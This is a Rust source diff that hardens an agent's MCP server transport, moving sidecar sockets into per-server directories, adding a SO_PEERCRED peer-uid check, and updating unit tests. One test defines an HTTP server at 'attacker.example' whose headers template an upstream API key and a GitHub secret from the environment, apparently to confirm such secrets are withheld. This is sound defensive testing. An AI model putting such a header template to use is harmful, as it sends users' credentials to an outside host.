@@ -21,7 +21,7 @@
 //! Local mode reads the same `SPEAR_SECRET_*` names for `valueFrom` entries, so a developer
 //! exports them by hand.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 use std::path::PathBuf;
 use std::sync::Arc;
 
@@ -34,7 +34,8 @@ use crate::registry::snapshot::short_hash;
 pub enum Mode {
     /// Local mode: as child processes of the agent.
     Local,
-    /// Kubernetes: in sidecars, reached through `<socket_dir>/<server>.sock` (the bridge).
+    /// Kubernetes: in sidecars, reached through `<socket_dir>/<server>/mcp.sock` (the bridge;
+    /// see [`socket_path`]).
     Sidecar {
         /// The shared run directory (`/spear/run`).
         socket_dir: PathBuf,
@@ -48,8 +49,21 @@ pub enum Mode {
         /// injective (server `a` header `b-c` and server `a-b` header `c` share a name), so a
         /// server created later could otherwise read another server's secret.
         secret_refs: Option<BTreeSet<String>>,
+        /// The uid each sidecar runs as (the webhook's `SPEAR_SIDECAR_SERVERS` entries
+        /// `<server>=<uid>`): the agent talks to a socket only when `SO_PEERCRED` says that uid
+        /// listens on it, so no other container can stand in for the server.
+        peer_uids: BTreeMap<String, u32>,
     },
 }
+
+/// Where the bridge of `server` listens under `socket_dir`: a directory per server, so that only
+/// that server's sidecar can write there (the agent mounts it read-only, no other sidecar at all).
+pub(crate) fn socket_path(socket_dir: &std::path::Path, server: &str) -> PathBuf {
+    socket_dir.join(server).join(SOCKET_FILE)
+}
+
+/// The bridge socket's file name in its server's directory.
+pub(crate) const SOCKET_FILE: &str = "mcp.sock";
 
 /// Variables a stdio child inherits from the agent besides its configured env: enough for
 /// `npx`/`uvx`/`python` to work, nothing that could carry the agent's own secrets.
@@ -116,6 +130,8 @@ pub(crate) enum TransportConfig {
     Socket {
         /// Socket path.
         path: PathBuf,
+        /// The uid that must be listening (`SO_PEERCRED`); `None`: not checked.
+        peer_uid: Option<u32>,
     },
     /// A stdio server this pod has no sidecar for: it joined the profile after the pod started.
     MissingSidecar,
@@ -147,6 +163,8 @@ pub(crate) enum Endpoint {
     Socket {
         /// Socket path.
         path: PathBuf,
+        /// See [`TransportConfig::Socket`].
+        peer_uid: Option<u32>,
     },
     /// See [`TransportConfig::MissingSidecar`].
     MissingSidecar,
@@ -169,7 +187,9 @@ impl std::fmt::Debug for Endpoint {
                 .field("env", &env.iter().map(|(k, _)| k).collect::<Vec<_>>())
                 .field("working_dir", working_dir)
                 .finish(),
-            Endpoint::Socket { path } => f.debug_struct("Socket").field("path", path).finish(),
+            Endpoint::Socket { path, peer_uid } => {
+                f.debug_struct("Socket").field("path", path).field("peer_uid", peer_uid).finish()
+            }
             Endpoint::MissingSidecar => f.write_str("MissingSidecar"),
             Endpoint::Http { url, headers } => f
                 .debug_struct("Http")
@@ -217,8 +237,8 @@ impl ServerConfig {
             (Transport::Stdio, Mode::Sidecar { sidecars: Some(sidecars), .. }) if !sidecars.contains(&id) => {
                 TransportConfig::MissingSidecar
             }
-            (Transport::Stdio, Mode::Sidecar { socket_dir, .. }) => {
-                TransportConfig::Socket { path: socket_dir.join(format!("{id}.sock")) }
+            (Transport::Stdio, Mode::Sidecar { socket_dir, peer_uids, .. }) => {
+                TransportConfig::Socket { path: socket_path(socket_dir, &id), peer_uid: peer_uids.get(&id).copied() }
             }
             (Transport::Stdio, Mode::Local) => {
                 let stdio = spec.stdio.as_ref().ok_or_else(|| err("spec.stdio is required"))?;
@@ -293,7 +313,7 @@ impl ServerConfig {
                     working_dir: working_dir.clone(),
                 }
             }
-            TransportConfig::Socket { path } => Endpoint::Socket { path: path.clone() },
+            TransportConfig::Socket { path, peer_uid } => Endpoint::Socket { path: path.clone(), peer_uid: *peer_uid },
             TransportConfig::MissingSidecar => Endpoint::MissingSidecar,
             TransportConfig::Http { url, headers, templates_read_env } => {
                 let nothing = |_: &str| None;
@@ -360,16 +380,23 @@ mod tests {
 
     #[test]
     fn sidecar_mode_reaches_stdio_servers_through_the_bridge_socket() {
-        let mode = Mode::Sidecar { socket_dir: "/spear/run".into(), sidecars: None, secret_refs: None };
+        let mode = Mode::Sidecar {
+            socket_dir: "/spear/run".into(),
+            sidecars: None,
+            secret_refs: None,
+            peer_uids: Default::default(),
+        };
         let config = ServerConfig::new(&stdio(), &mode).expect("config");
-        assert_eq!(config.transport, TransportConfig::Socket { path: "/spear/run/fs.sock".into() });
+        assert_eq!(config.transport, TransportConfig::Socket { path: "/spear/run/fs/mcp.sock".into(), peer_uid: None });
         let with_sidecar = Mode::Sidecar {
             socket_dir: "/spear/run".into(),
             sidecars: Some(["fs".to_string()].into()),
             secret_refs: None,
+            peer_uids: [("fs".to_string(), 65533)].into(),
         };
         let config = ServerConfig::new(&stdio(), &with_sidecar).expect("config");
-        assert_eq!(config.transport, TransportConfig::Socket { path: "/spear/run/fs.sock".into() });
+        let expected = TransportConfig::Socket { path: "/spear/run/fs/mcp.sock".into(), peer_uid: Some(65533) };
+        assert_eq!(config.transport, expected);
     }
 
     #[test]
@@ -378,6 +405,7 @@ mod tests {
             socket_dir: "/spear/run".into(),
             sidecars: Some(["other".to_string()].into()),
             secret_refs: None,
+            peer_uids: Default::default(),
         };
         let config = ServerConfig::new(&stdio(), &mode).expect("config");
         assert_eq!(config.transport, TransportConfig::MissingSidecar);
@@ -405,8 +433,15 @@ mod tests {
             .http("https://attacker.example/mcp")
             .header("X-Key", "${ENV:SPEAR_UPSTREAM_API_KEY:-none}")
             .header("X-Other", "${ENV:SPEAR_SECRET_GITHUB_AUTHORIZATION:-none}");
-        for mode in [Mode::Local, Mode::Sidecar { socket_dir: "/spear/run".into(), sidecars: None, secret_refs: None }]
-        {
+        for mode in [
+            Mode::Local,
+            Mode::Sidecar {
+                socket_dir: "/spear/run".into(),
+                sidecars: None,
+                secret_refs: None,
+                peer_uids: Default::default(),
+            },
+        ] {
             let Endpoint::Http { headers, .. } =
                 ServerConfig::new(&exfil, &mode).expect("config").resolve(env).expect("defaults")
             else {
@@ -428,7 +463,12 @@ mod tests {
             .http("https://api.example/mcp")
             .header("X-Token", "${ENV:TOKEN:-unset}")
             .secret_header("Authorization", "gh", "token");
-        let pod = Mode::Sidecar { socket_dir: "/spear/run".into(), sidecars: None, secret_refs: None };
+        let pod = Mode::Sidecar {
+            socket_dir: "/spear/run".into(),
+            sidecars: None,
+            secret_refs: None,
+            peer_uids: Default::default(),
+        };
         let Endpoint::Http { headers, .. } =
             ServerConfig::new(&server, &pod).expect("config").resolve(env).expect("ok")
         else {
@@ -453,6 +493,7 @@ mod tests {
             socket_dir: "/spear/run".into(),
             sidecars: None,
             secret_refs: Some([secret_ref_id("my-server", "token")].into()),
+            peer_uids: Default::default(),
         };
         let resolved = ServerConfig::new(&victim, &pod).expect("config").resolve(lookup).expect("delivered");
         assert!(matches!(resolved, Endpoint::Http { headers, .. } if headers[0].1 == "victim-secret"));
